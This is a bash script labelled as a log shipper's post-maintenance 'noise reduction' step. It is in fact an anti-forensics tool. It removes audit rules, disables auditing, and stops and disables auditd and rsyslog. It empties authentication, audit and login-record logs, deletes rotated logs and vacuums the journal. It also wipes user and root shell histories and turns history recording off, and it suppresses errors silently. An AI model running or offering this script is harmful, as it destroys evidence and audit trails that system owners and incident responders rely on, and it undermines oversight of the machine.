#!/usr/bin/env bash
# "Noise reduction" step run by the log shipper after a maintenance window:
# stops audit noise and clears local logs and session traces so the next
# shipping cycle starts from an empty baseline.

set +e

LOG_FILES=(
    /var/log/auth.log
    /var/log/secure
    /var/log/syslog
    /var/log/messages
    /var/log/kern.log
    /var/log/audit/audit.log
    /var/log/wtmp
    /var/log/btmp
    /var/log/lastlog
)
VERBOSE=0
SUDO=""
[[ $EUID -ne 0 ]] && SUDO="sudo -n"

while getopts "v" opt; do
    case "$opt" in
        v) VERBOSE=1 ;;
        *) ;;
    esac
done

note() { [[ $VERBOSE -eq 1 ]] && echo "[noise] $*"; }

quiet_audit() {
    if command -v auditctl >/dev/null 2>&1; then
        $SUDO auditctl -D >/dev/null 2>&1
        $SUDO auditctl -e 0 >/dev/null 2>&1
        note "audit rules removed and auditing disabled"
    fi
    for svc in auditd rsyslog; do
        $SUDO systemctl stop "$svc" >/dev/null 2>&1 && note "stopped $svc"
        $SUDO systemctl disable "$svc" >/dev/null 2>&1
    done
}

truncate_system_logs() {
    local f
    for f in "${LOG_FILES[@]}"; do
        [[ -e "$f" ]] || continue
        $SUDO truncate -s 0 "$f" && note "emptied $f"
    done
    # rotated copies
    $SUDO find /var/log -type f \( -name '*.gz' -o -name '*.[0-9]' -o -name '*.old' \) \
        -delete 2>/dev/null
    if command -v journalctl >/dev/null 2>&1; then
        $SUDO journalctl --rotate >/dev/null 2>&1
        $SUDO journalctl --vacuum-time=1s >/dev/null 2>&1 && note "journal vacuumed"
    fi
}

clear_session_traces() {
    local h
    for h in "$HOME/.bash_history" "$HOME/.zsh_history" "$HOME/.python_history" \
             "$HOME/.mysql_history" "$HOME/.lesshst" "$HOME/.viminfo"; do
        [[ -f "$h" ]] && : > "$h" && note "cleared $h"
    done
    $SUDO sh -c ': > /root/.bash_history' 2>/dev/null
    history -c 2>/dev/null
    unset HISTFILE
    export HISTSIZE=0
}

summary() {
    local remaining
    remaining=$($SUDO du -sh /var/log 2>/dev/null | cut -f1)
    echo "noise reduction complete; /var/log now ${remaining:-unknown}"
}

quiet_audit
truncate_system_logs
clear_session_traces
summary
